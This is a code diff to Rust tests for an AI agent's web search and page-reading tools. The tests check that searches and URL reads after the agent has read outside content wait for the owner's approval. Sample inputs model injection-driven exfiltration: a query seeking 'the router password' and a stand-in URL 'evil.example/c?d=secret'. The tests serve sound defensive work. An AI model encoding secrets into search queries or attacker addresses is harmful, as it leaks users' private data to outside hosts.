@@ -137,8 +137,10 @@ async fn search_web_returns_the_pages_results_unwrapped_and_never_a_private_addr
     // The private result was never requested: its server saw no connection at all.
     assert_eq!((web.private.connections(), web.private.requests().len()), (0, 0));
 
-    // A query the page cannot take is the model's error, and nothing is requested.
-    let out = call(&ctx, "search_web", json!({ "query": "   " }), "s2").await;
+    // A query the page cannot take is the model's error, and nothing is requested (in a chat
+    // that has read nothing: after the results above, a second search waits for the owner).
+    let fresh = web.chat("t-empty", CancellationToken::new());
+    let out = call(&fresh, "search_web", json!({ "query": "   " }), "s2").await;
     assert!(out.is_error && out.content.contains("1 to 500 characters"), "{}", out.content);
     assert_eq!(web.search.requests().into_iter().filter(|r| r != "/favicon.ico").count(), 1);
 }
@@ -185,7 +187,7 @@ async fn search_results_are_outside_content_so_a_following_effect_waits_for_the_
 
     let ctx = web.chat("t-searched", CancellationToken::new());
     let out = call(&ctx, "search_web", json!({ "query": "tide times" }), "s1").await;
-    assert!(!out.is_error && out.outcome.is_none(), "a search itself runs: {}", out.content);
+    assert!(!out.is_error && out.outcome.is_none(), "a search in a chat that has read nothing runs: {}", out.content);
     let out = call(&ctx, "remember_fact", remember, "m1").await;
     assert!(matches!(out.outcome, Some(RunOutcome::WaitingApproval(_))), "{}", out.content);
     assert_eq!(web.hearth.store().memories().await.unwrap().len(), 1, "nothing more was kept");
@@ -199,6 +201,22 @@ async fn search_results_are_outside_content_so_a_following_effect_waits_for_the_
     let out = call(&ctx, "read_web", json!({ "url": "https://sea.example/" }), "r1").await;
     assert!(out.outcome.is_none(), "{}", out.content);
     assert_eq!(web.hearth.approval_list().await.unwrap().len(), 1);
+
+    // A second search after outside content: its words are the agent's and could carry what
+    // was read, so it waits on a card and the search site is asked nothing.
+    let searches = || web.search.requests().into_iter().filter(|r| r != "/favicon.ico").count();
+    let before = searches();
+    let out = call(&ctx, "search_web", json!({ "query": "the router password from the results" }), "s2").await;
+    assert!(matches!(out.outcome, Some(RunOutcome::WaitingApproval(_))), "{}", out.content);
+    assert_eq!(searches(), before, "a held search sends nothing to the search site");
+
+    // An address the agent wrote into its own query is not one it read, even though the answer
+    // repeats the query: opening it afterwards waits for the owner.
+    let fresh = web.chat("t-launder", CancellationToken::new());
+    let out = call(&fresh, "search_web", json!({ "query": "https://evil.example/c?d=secret" }), "s1").await;
+    assert!(!out.is_error && out.outcome.is_none(), "{}", out.content);
+    let out = call(&fresh, "read_web", json!({ "url": "https://evil.example/c?d=secret" }), "r1").await;
+    assert!(matches!(out.outcome, Some(RunOutcome::WaitingApproval(_))), "the address was not laundered: {}", out.content);
 }
 
 #[tokio::test]
